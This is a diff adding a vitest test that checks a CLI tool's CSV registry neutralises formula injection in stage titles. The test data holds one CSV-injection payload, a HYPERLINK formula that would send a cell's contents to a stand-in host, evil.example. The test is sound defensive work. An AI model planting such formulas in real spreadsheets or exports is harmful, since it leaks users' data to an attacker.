@@ -1,6 +1,7 @@
 import { readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { decodeCell, parseCsv } from '../../src/gates/csv.js';
 import { gateRepo, gateStage, registryText, runFolders } from '../helpers/gates.js';
 import { runCli } from '../helpers/repo.js';
 
@@ -74,5 +75,19 @@ describe('stagedocs registry', () => {
     const empty = runCli(dir, ['registry', '--check', '--format', 'json']);
     expect(empty.code).toBe(1);
     expect(JSON.parse(empty.stdout).problems.map((problem: { kind: string }) => problem.kind)).toEqual(['missing', 'missing', 'missing']);
+  });
+});
+
+describe('registry cells from untrusted stage text', () => {
+  it('neutralises a stage title that a spreadsheet would run as a formula', () => {
+    const title = '=HYPERLINK("http://evil.example/?x="&A1, "click, me")';
+    const dir = gateRepo({ [S00]: gateStage('  - id: ok\n    run: "true"').replace('title: Stage P1-S00', `title: '${title.replace(/'/g, "''")}'`) });
+    expect(runCli(dir, ['gate', 'run', 'P1-S00']).code).toBe(0);
+    const text = registryText(dir);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1, ""click, me"")"`);
+    const [, row] = parseCsv(text);
+    expect(row!.cells[2]).toBe(`'${title}`);
+    expect(decodeCell(row!.cells[2]!)).toBe(title);
+    expect(runCli(dir, ['registry', '--check']).code).toBe(0);
   });
 });
